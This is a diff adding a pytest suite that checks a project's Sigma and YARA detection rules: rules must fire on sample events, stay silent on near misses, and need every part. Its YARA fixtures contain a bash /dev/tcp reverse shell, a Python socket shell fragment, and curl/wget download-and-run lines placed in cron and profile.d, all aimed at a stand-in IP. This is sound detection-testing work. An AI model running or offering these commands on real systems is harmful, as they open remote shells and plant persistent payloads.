@@ -1,0 +1,168 @@
+"""Every rule of ours fires on its events, is silent on its near misses, and needs each of its parts."""
+
+import copy
+import json
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+import yaml
+from google.protobuf import json_format
+from tramgac_proto.event_pb2 import Event
+from tramgac_rules.authoring import compile_rules
+from tramgac_rules.judge import Judge
+from tramgac_rules.record import record_of
+from tramgac_scan.client import Scanner, YaraSource, inspect
+
+CONTENT = Path(__file__).parents[2] / "rules/content"
+RULES = sorted(CONTENT.glob("sigma/**/*.yml"))
+YARA = sorted(CONTENT.glob("yara/*.yar"))
+# A field that no event has: a selection made of it is always true, or always false.
+TRUE, FALSE = {"NoSuchField|exists": False}, {"NoSuchField|exists": True}
+
+
+def read(path: Path) -> dict[str, Any]:
+    return yaml.safe_load(path.read_text("utf-8"))
+
+
+def samples(path: Path) -> tuple[list[dict], list[dict]]:
+    """The events that fire, and the near misses: the first firing event with one field changed."""
+    data = json.loads(path.with_suffix(".samples.json").read_text("utf-8"))
+    near = []
+    for miss in data["near_misses"]:
+        # A near miss is one field away from the first of the events that has the field's kind and fires.
+        kind = miss["field"].split(".")[0]
+        event = copy.deepcopy(next(e for e in data["fires"] if kind in e))
+        *folders, leaf = miss["field"].split(".")
+        place = event
+        for folder in folders:
+            place = place[folder]
+        assert place.get(leaf) != miss["value"], "a near miss must differ"
+        place[leaf] = miss["value"]
+        near.append(event)
+    return data["fires"], near
+
+
+def verdicts(rule: dict[str, Any], events: list[dict], folder: Path) -> list[bool]:
+    path = folder / "rule.yml"
+    path.write_text(yaml.safe_dump(rule), "utf-8")
+    compiled = compile_rules([path])
+    assert not compiled.problems, compiled.problems
+    judge = Judge.load(compiled.pack)
+    return [bool(judge.match(record_of(json_format.ParseDict(e, Event()), "linux"))) for e in events]
+
+
+@pytest.mark.parametrize("path", RULES, ids=lambda p: p.stem)
+def test_fires_and_is_silent(path, tmp_path):
+    fires, near = samples(path)
+    assert len(fires) >= 1
+    assert len(near) >= 2
+    assert verdicts(read(path), [*fires, *near], tmp_path) == [True] * len(fires) + [False] * len(near)
+
+
+def mutants(rule: dict[str, Any]) -> Iterator[tuple[str, dict[str, Any]]]:
+    """The rule without each of its parts: a selection made always true and always false, a field taken out."""
+    for name, selection in rule["detection"].items():
+        if name == "condition":
+            continue
+        for word, instead in (("true", TRUE), ("false", FALSE)):
+            changed = copy.deepcopy(rule)
+            changed["detection"][name] = instead
+            yield f"{name} always {word}", changed
+        if isinstance(selection, dict) and len(selection) > 1:
+            for field in selection:
+                changed = copy.deepcopy(rule)
+                del changed["detection"][name][field]
+                yield f"{name} without {field}", changed
+
+
+@pytest.mark.parametrize("path", RULES, ids=lambda p: p.stem)
+def test_no_part_can_be_taken_out_unnoticed(path, tmp_path):
+    fires, near = samples(path)
+    rule = read(path)
+    wanted = [True] * len(fires) + [False] * len(near)
+    unnoticed = [name for name, changed in mutants(rule) if verdicts(changed, [*fires, *near], tmp_path) == wanted]
+    assert not unnoticed
+
+
+def test_there_are_at_least_twelve_rules_and_two_yara_rules():
+    assert len(RULES) >= 12
+    assert len(YARA) >= 2
+
+
+def test_every_rule_explains_itself_in_both_languages():
+    for path in RULES:
+        rule = read(path)
+        for key in ("title", "title_vi", "description", "description_vi", "triage", "falsepositives", "level", "tags"):
+            assert rule.get(key), f"{path.name}: no {key}"
+        assert all(isinstance(line, str) for key in ("triage", "falsepositives") for line in rule[key]), path.name
+
+
+def test_no_rule_knows_the_simulation():
+    for path in [*RULES, *YARA]:
+        text = path.read_text("utf-8").lower()
+        assert "tramgac-" not in text
+        assert "simulat" not in text
+        assert "demo" not in text
+
+
+SCRIPT = b"#!/bin/bash\n"
+YARA_SAMPLES = {
+    "reverse_shell_script": (
+        [
+            (SCRIPT + b"bash -i >& /dev/tcp/192.0.2.7/443 0>&1\n", ""),
+            (b"#!/usr/bin/python3\ns=socket.socket(); os.dup2(s.fileno(),0)\n", ""),
+        ],
+        [
+            (b"bash -i >& /dev/tcp/192.0.2.7/443 0>&1\n", ""),  # text about it, no script
+            (SCRIPT + b"echo > /dev/tcp/192.0.2.7/443\n", ""),  # a port check
+            (SCRIPT + b"bash -i >& /dev/tty 0>&1\n", ""),
+            (b"#!/usr/bin/python3\ns=socket.socket(); s.close()\n", ""),
+            (SCRIPT + b"bash -i >& /dev/tcp/192.0.2.7/443 0>&1\n" + b"#" * (1 << 20), ""),
+        ],
+    ),
+    "downloader_in_start_folder": (
+        [
+            (SCRIPT + b"curl -s https://192.0.2.7/x | sh\n", "/etc/cron.hourly/x"),
+            (SCRIPT + b"wget -q http://192.0.2.7/x -O /usr/bin/x; chmod 755 /usr/bin/x\n", "/etc/profile.d/x.sh"),
+        ],
+        [
+            (SCRIPT + b"curl -s https://192.0.2.7/x | sh\n", "/home/an/x.sh"),
+            (SCRIPT + b"curl -s https://192.0.2.7/x -o list\n", "/etc/cron.hourly/x"),
+            (SCRIPT + b"cat x | sh\n", "/etc/cron.hourly/x"),
+            (b"curl -s https://192.0.2.7/x | sh\n", "/etc/cron.hourly/x"),
+            (SCRIPT + b"curl -s https://192.0.2.7/x | sh\n" + b"#" * (1 << 20), "/etc/cron.hourly/x"),
+        ],
+    ),
+}
+
+
+def test_yara_fires_and_is_silent():
+    sources = [YaraSource(p.name, p.read_text("utf-8")) for p in YARA]
+    found = set()
+    with Scanner(sources) as scanner:
+        for name, (fires, silent) in YARA_SAMPLES.items():
+            for wanted, group in ((True, fires), (False, silent)):
+                for content, path in group:
+                    hits = {hit.rule for hit in scan(scanner, content, path)}
+                    assert (name in hits) == wanted, (name, content[:80], path)
+                    found |= hits
+    assert found == set(YARA_SAMPLES)
+
+
+def scan(scanner: Scanner, content: bytes, path: str):
+    import os
+
+    fd = os.memfd_create("sample")
+    try:
+        os.write(fd, content)
+        return scanner.scan(fd, {"filepath": path, "filename": Path(path).name}).hits
+    finally:
+        os.close(fd)
+
+
+def test_one_source_is_for_the_fleet_and_one_for_the_edge():
+    seen = inspect([YaraSource(p.name, p.read_text("utf-8")) for p in YARA])
+    assert not seen.problems
+    assert seen.content_only == {"reverse_shell_script.yar"}
